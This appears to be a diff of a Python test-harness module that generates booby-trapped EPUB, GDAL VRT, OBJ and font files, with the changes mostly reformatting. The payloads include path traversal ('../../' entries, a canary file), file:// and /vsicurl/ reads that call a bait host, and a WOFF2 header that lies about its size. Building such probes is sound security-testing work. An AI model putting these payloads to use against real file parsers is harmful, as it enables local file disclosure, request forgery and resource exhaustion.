@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - a payload reads best in one piece
 """Books, subtitles, maps, fonts, meshes: the small families (recipes 17 and 19)."""
 
 from __future__ import annotations
@@ -10,7 +11,10 @@ from makers.packages import XML, deflated_zeros, epub, zipped
 
 
 def _epub(bait: Bait) -> bytes:
-    images = "".join(f'<img src="{link}" alt="x"/><iframe src="{link}"></iframe><object data="{link}"></object>' for link in bait.links)
+    images = "".join(
+        f'<img src="{link}" alt="x"/><iframe src="{link}"></iframe><object data="{link}"></object>'
+        for link in bait.links
+    )
     style = f'<link rel="stylesheet" href="{bait.url}/s.css"/><style>@import "file://{bait.file}";</style>'
     return epub(images, style=style, more={f"../../{bait.pwned_name}": "evil"})
 
@@ -35,7 +39,14 @@ def _kmz(bait: Bait) -> bytes:
 def _vrt(bait: Bait) -> bytes:
     layers = "".join(
         f'<OGRVRTLayer name="l{n}"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer>'
-        for n, source in enumerate((str(bait.planted.paths["table"]), f"/vsicurl/{bait.url}/x.csv", f"CSV:{bait.file}", f"/vsistdin/{bait.file}"))
+        for n, source in enumerate(
+            (
+                str(bait.planted.paths["table"]),
+                f"/vsicurl/{bait.url}/x.csv",
+                f"CSV:{bait.file}",
+                f"/vsistdin/{bait.file}",
+            )
+        )
     )
     return f"<OGRVRTDataSource>{layers}</OGRVRTDataSource>".encode()
 
@@ -62,7 +73,9 @@ def _ass(bait: Bait) -> bytes:
 
 
 def _obj(bait: Bait) -> bytes:
-    return (f"mtllib {bait.file}\nmtllib ../../../canary.txt\nmtllib {bait.url}/m.mtl\nusemtl x\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n").encode()
+    return (
+        f"mtllib {bait.file}\nmtllib ../../../canary.txt\nmtllib {bait.url}/m.mtl\nusemtl x\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n"
+    ).encode()
 
 
 def _gltf(bait: Bait) -> bytes:
@@ -76,7 +89,12 @@ def _gltf(bait: Bait) -> bytes:
 
 
 def _woff2(claims: int) -> bytes:
-    return b"wOF2\0\1\0\0" + struct.pack(">IHHIIHHIIIII", 200, 1, 0, claims, 100, 1, 0, 0, 0, 0, 0, 0) + b"\x0a\xff\xff\xff\x7f" + b"\x1b" * 147
+    return (
+        b"wOF2\0\1\0\0"
+        + struct.pack(">IHHIIHHIIIII", 200, 1, 0, claims, 100, 1, 0, 0, 0, 0, 0, 0)
+        + b"\x0a\xff\xff\xff\x7f"
+        + b"\x1b" * 147
+    )
 
 
 def _woff(claims: int) -> bytes:
